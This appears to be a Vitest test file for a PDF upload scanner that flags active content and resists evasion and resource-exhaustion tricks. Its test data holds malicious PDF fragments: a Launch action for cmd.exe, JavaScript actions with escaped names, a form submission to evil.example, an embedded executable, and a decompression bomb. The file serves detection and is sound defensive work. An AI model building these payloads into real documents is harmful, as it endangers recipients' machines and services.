import { deflateSync } from 'node:zlib'
import { PDFDocument } from 'pdf-lib'
import { expect, test } from 'vitest'
import { makePdf } from '#testing/files/documents.ts'
import { inMemory } from '#testing/files/in-memory.ts'
import { FRAME_BYTES } from './cipher.ts'
import { inspectPdf } from './pdf.ts'
import { scanPdf } from './pdf-scan.ts'

/** Scans the frames as they pass, and judges the file. */
async function look(bytes: Buffer) {
  const file = inMemory(bytes)
  const scan = scanPdf()
  for await (const frame of file.read()) scan.see(frame)
  return inspectPdf(file, scan.end())
}

/** A PDF whose only object is this text. */
function pdfOf(object: string | Buffer) {
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n'),
    Buffer.from(object),
    Buffer.from('\nendobj\ntrailer <</Root 1 0 R>>\n%%EOF\n'),
  ])
}

/** The same text in a compressed object stream, where a plain search does not find it. */
function hidden(object: string) {
  const packed = deflateSync(Buffer.from(`1 0 ${object}`))
  const head = Buffer.from(`<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length}>>\nstream\n`)
  return pdfOf(Buffer.concat([head, packed, Buffer.from('\nendstream')]))
}

const active = [
  '<</S /JavaScript /JS (app.alert(1))>>',
  '<</S /#4aavaScript /JS (app.alert(1))>>',
  '<</Type /Action /S /Launch /F (cmd.exe)>>',
  '<</Names <</EmbeddedFiles 2 0 R>>>>',
  '<</Type /EmbeddedFile>>',
  '<</AcroForm <</XFA 3 0 R>>>>',
  '<</S /SubmitForm /F (https://evil.example)>>',
  '<</S /GoToR /F (other.pdf)>>',
  '<</S /GoToE /T 3 0 R>>',
]

test.each(active)('a PDF with %s is kept for saving and never opened in the page (UP07)', async (object) => {
  expect(await look(pdfOf(object))).toEqual({ active: true, links: false })
  expect(await look(hidden(object))).toEqual({ active: true, links: false })
})

test('a name across two frames is found wherever it is cut', async () => {
  for (let before = FRAME_BYTES - 40; before < FRAME_BYTES; before++) {
    const at = Buffer.alloc(before, '%PDF-1.7\n')
    const end = Buffer.from('%%EOF')
    expect(await look(Buffer.concat([at, Buffer.from('/#4aavaScript '), end]))).toMatchObject({ active: true })
    expect((await look(Buffer.concat([at, Buffer.from('/Encrypt   5 0 R'), end]))).problem).toContain('password')
  }
})

test('a PDF with a link is shown, with a note to its reader', async () => {
  for (const link of ['<</S /URI /URI (https://example.org)>>', '<</S /#55RI>>'])
    for (const pdf of [pdfOf(link), hidden(link)]) expect(await look(pdf)).toEqual({ active: false, links: true })
})

const packed = deflateSync(Buffer.from('<</S /JavaScript>>'))

test.each<[string, Buffer]>([
  ['packed in another way', Buffer.from('<</Type /ObjStm /Filter /LZWDecode>>\nstream\n\x80\x0b\x60\nendstream')],
  [
    'packed twice',
    Buffer.concat([
      Buffer.from('<</Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]>>\nstream\n'),
      Buffer.from(packed.toString('hex')),
    ]),
  ],
  [
    'damaged',
    Buffer.concat([
      Buffer.from('<</Type /ObjStm /Filter /FlateDecode>>\nstream\n'),
      packed.subarray(0, 4),
      Buffer.from('garbage'),
    ]),
  ],
  ['far from its beginning', Buffer.from(`<</Type /ObjStm /Note (${'x'.repeat(3000)})>>\nstream\n`)],
])('a PDF with a part that is %s counts as active: nobody has looked into it', async (_what, object) => {
  expect(await look(pdfOf(object))).toMatchObject({ active: true })
})

test('a PDF with an attachment counts as active content; one without does not (UP07)', async () => {
  const document = await PDFDocument.load(await makePdf('cv'))
  await document.attach(Buffer.from('MZ'), 'tool.exe')
  expect(await look(Buffer.from(await document.save()))).toEqual({ active: true, links: false })
  expect(await look(await makePdf('cv'))).toEqual({ active: false, links: false })
})

test.each([
  ['protected by a password', pdfOf('<</Encrypt 5 0 R>>')],
  ['incomplete', (await makePdf('cv')).subarray(0, 300)],
  ['not a PDF', Buffer.from(`<html>%PDF-1.7 ${'x'.repeat(50)} %%EOF`)],
])('one that is %s is refused (UP07)', async (problem, bytes) => {
  expect((await look(bytes)).problem).toContain(problem)
})

test.each([
  ['a table of objects that leads to itself', pdfOf('<</Prev 9>>\nxref\n0 1\ntrailer <</Prev 9>>\nstartxref\n9')],
  ['a million objects', pdfOf('1 0 obj <<>> endobj\n'.repeat(1_000_000).slice(0, 9_900_000))],
  ['two thousand streams that grow to a gigabyte', pdfOf(Buffer.concat(Array<Buffer>(1900).fill(bombPart())))],
])('%s is looked at in seconds, and others go on meanwhile (UP07)', async (_what, bytes) => {
  let longest = 0
  let before = performance.now()
  const watch = setInterval(() => {
    longest = Math.max(longest, performance.now() - before)
    before = performance.now()
  }, 5)
  const began = performance.now()
  await look(bytes)
  clearInterval(watch)
  expect(performance.now() - began).toBeLessThan(5000)
  expect(longest).toBeLessThan(1000)
})

function bombPart() {
  const packed = deflateSync(Buffer.alloc(600_000, '1 0 '))
  return Buffer.concat([
    Buffer.from(`<</Type /ObjStm /Filter /FlateDecode>>\nstream\n`),
    packed,
    Buffer.from('\nendstream\n'),
  ])
}
